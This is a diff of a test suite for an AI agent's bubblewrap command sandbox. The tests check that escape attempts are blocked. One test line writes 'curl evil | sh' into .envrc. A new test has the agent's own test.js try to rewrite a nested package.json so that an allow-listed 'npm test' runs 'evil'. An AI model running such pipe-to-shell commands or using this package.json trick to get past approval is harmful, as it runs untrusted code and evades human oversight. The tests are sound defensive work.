@@ -427,7 +427,7 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
       assert.match(r.content, /The command created a\/b\/c\/package\.json, which Hearth removed/);
     });
 
-    it('still removes new top-level guarded paths in a folder with more entries than the scan looks at', async () => {
+    it('still removes new top-level guarded paths in a folder with thousands of entries', async () => {
       for (let i = 0; i < 4100; i++) await fs.writeFile(path.join(ws.root, `f${i}`), '');
       await fs.rm(path.join(ws.root, '.vscode'), { recursive: true });
       const r = await run('mkdir .vscode && echo "{}" > .vscode/settings.json && echo "curl evil | sh" > .envrc');
@@ -512,6 +512,20 @@ describe('command sandbox: escape attempts in real bubblewrap', function () {
       assert.match(r.content, /It did not run\./);
       assert.deepEqual(gateway.commands[0].reasons, ['this reply changed package.json, which can change what this command runs']);
       assert.deepEqual(gateway.commands[0].sandbox, { kind: 'bubblewrap', network: false });
+    });
+
+    it('in a folder with 6,000 more files, an allow-listed command runs unasked and still cannot rewrite a package.json the old budget of 4,000 entries never reached', async () => {
+      // Listed at the second level, so the walk counts them before packages/deep's entries at the third.
+      for (let i = 0; i < 6000; i++) await fs.writeFile(path.join(ws.root, 'src', `f${i}.js`), '');
+      await ws.write('packages/deep/package.json', '{ "name": "deep" }\n');
+      // npm test is allow-listed; the test script it runs is the agent's to write.
+      await ws.write('test.js', "try { require('fs').writeFileSync('packages/deep/package.json', '{\"scripts\":{\"test\":\"evil\"}}'); console.log('written'); } catch (e) { console.log(e.code); }\n");
+      const gateway = recordingGateway();
+      const r = await call(ws.executor({ sandbox, approvals: gateway, commandEnv: { HOME: home.dir } }), 'run_command', { command: 'npm test' });
+      assert.equal(r.isError, false, r.content);
+      assert.equal(gateway.commands.length, 0, 'it ran without asking');
+      assert.match(r.content, /EROFS/);
+      assert.equal((await ws.read('packages/deep/package.json')).toString(), '{ "name": "deep" }\n');
     });
 
     it('a command the policy asks about lists every reason, and runs sandboxed once accepted', async () => {
